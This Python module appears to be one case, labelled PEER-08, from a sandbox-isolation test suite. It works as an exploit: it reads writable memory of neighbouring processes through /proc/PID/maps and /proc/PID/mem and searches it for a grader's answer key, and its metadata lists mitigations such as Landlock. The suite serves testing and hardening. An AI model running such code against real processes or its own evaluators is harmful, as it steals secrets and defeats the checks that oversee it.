# SPDX-License-Identifier: MIT
"""Goal:  the answer key, which the worker keeps on its heap.
Means: /proc/PID/maps tells where the writable memory is, /proc/PID/mem gives it out by pread.
"""

import os
import re

from attack import DONE, attempting, denied, loot, neighbours

MIB = 1 << 20
BUDGET, CHUNK, OVERLAP = 64 * MIB, MIB, 64  # an answer across two chunks must not be lost
ANSWER = re.compile(rb"ANSWER-KEY:[0-9a-f]{32}")


def regions(pid):
    """The writable parts of a process's memory, as (from, to)."""
    with open(f"/proc/{pid}/maps", encoding="ascii", errors="replace") as maps:
        for line in maps:
            where, perms = line.split()[:2]
            if perms[1] == "w":
                start, end = where.split("-")
                yield int(start, 16), int(end, 16)


def search(pid):
    """The answer in a process's memory, or None."""
    left = BUDGET
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
        for start, end in regions(pid):
            for at in range(start, end, CHUNK - OVERLAP):
                left -= CHUNK
                if left < 0:
                    return None
                try:
                    hit = ANSWER.search(os.pread(mem.fileno(), min(CHUNK, end - at), at))
                except OSError:
                    break  # not every mapping can be read
                if hit:
                    return hit.group()
    return None


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            found = search(pid)
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/proc/PID/mem", why)


ATTACK = {
    "effect": "the worker's memory is read through /proc",
    "means": "/proc/PID/maps and os.pread() of /proc/PID/mem",
    "oracle": "secret:worker-memory",
    "id": "PEER-08",
    "attack_id": "T1057, T1003.007, CWE-200",
    "remedy": "Landlock (a domain may not trace its outside); a worker that is not dumpable",
    "refs": ["proc(5)", "landlock(7), Ptrace restrictions"],
    "run": run,
}
